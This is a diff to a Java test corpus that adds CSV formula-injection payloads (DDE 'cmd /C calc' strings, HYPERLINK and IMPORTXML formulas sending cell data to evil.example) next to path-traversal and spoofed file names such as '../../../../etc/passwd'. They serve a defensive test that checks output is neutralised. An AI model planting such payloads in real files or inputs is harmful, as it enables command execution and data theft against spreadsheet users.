@@ -231,6 +231,17 @@ final class HostileCorpus {
     }
 
     /** File names staff (or a script) might send, each to be cut down to one safe segment of the object key. */
+    /**
+     * OWASP's CSV injection payloads, as cell values of an otherwise valid file: each must reach every CSV
+     * Passerelle serves (latest.csv, errors.csv, annotated.csv) neutralised, in either spreadsheet dialect.
+     */
+    static List<String> formulaPayloads() {
+        return List.of("=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+                "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1, \"Cliquez\")",
+                "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A2), \"//a\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
+                "x;=2+3;y", "x,=2+3,y", "a; @SUM(A1)", "\t=1+1", "＝1+1");
+    }
+
     static List<String> hostileNames() {
         return List.of("../../../../etc/passwd", "..\\..\\windows\\system32\\config.csv", "....//....//x.csv",
                 "%2e%2e%2fsecret.csv", "velos\u202Evsc.exe", "nom\u0000.csv", "\u001B[31mrouge.csv", "a\tb\nc.csv",
